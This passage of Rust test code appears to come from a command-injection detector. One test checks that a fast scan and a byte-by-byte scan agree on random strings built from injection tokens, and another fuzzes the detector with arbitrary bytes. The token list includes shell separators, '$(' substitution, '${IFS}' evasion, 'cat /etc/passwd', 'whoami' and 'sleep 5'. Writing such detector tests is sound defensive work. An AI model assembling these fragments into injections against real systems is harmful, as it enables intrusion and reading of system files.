    fn skipping_changes_nothing() {
        let mut rng = crate::token_analysis::test_rng::Rng(0x0c0d_e5ca);
        let mut below = |n: usize| (rng.next() % n as u64) as usize;
        let pieces: [&str; 36] = [
            ";",
            "|",
            "||",
            "&",
            "&&",
            "`",
            "$(",
            "${IFS}",
            " ",
            "id",
            "cat",
            "whoami",
            "/etc/passwd",
            "-la",
            "system",
            "(",
            ")",
            "'",
            "for %i in (a) do echo",
            "if exist x echo",
            "\\n",
            "{",
            ",",
            "<(",
            "() {",
            "sleep 5",
            "é",
            "Ping",
            "x_y",
            "phpinfo",
            "eval",
            "abcdefghijklmnopqrstuvw",
            "x",
            "SYSTEM",
            "'id'",
            "  ",
        ];
        for _ in 0..20_000 {
            let mut text = String::new();
            for _ in 0..below(10) {
                text.push_str(pieces.get(below(pieces.len())).copied().unwrap_or_default());
            }
            let lower = text.to_ascii_lowercase();
            for need in [LOW, MEDIUM, HIGH] {
                let (cased, lower) = (text.as_bytes(), lower.as_bytes());
                assert_eq!(scan(cased, lower, need), scan_every_byte(cased, lower, need), "{text:?} at {need}");
            }
        }
    }

    #[test]
    fn arbitrary_bytes_never_panic() {
        let mut rng = crate::token_analysis::test_rng::Rng(0x9e37_79b9_7f4a_7c15);
        let mut next = move || rng.next();
        let alphabet = b";|&`$(){}'\"\\/-. abcdeilnostwIFS0123456789\n<>#%^@*,:";
        for _ in 0..4000 {
            let len = (next() % 64) as usize;
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    let r = next();
                    if r % 4 == 0 {
                        r as u8
                    } else {
                        alphabet.get((r >> 8) as usize % alphabet.len()).copied().unwrap_or(b'a')
                    }
                })
                .collect();
            let lower = bytes.to_ascii_lowercase();
            for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                let _ = detect(&Subject::plain(&bytes, &lower, super::super::Place::Query), level);
            }
        }
    }
}
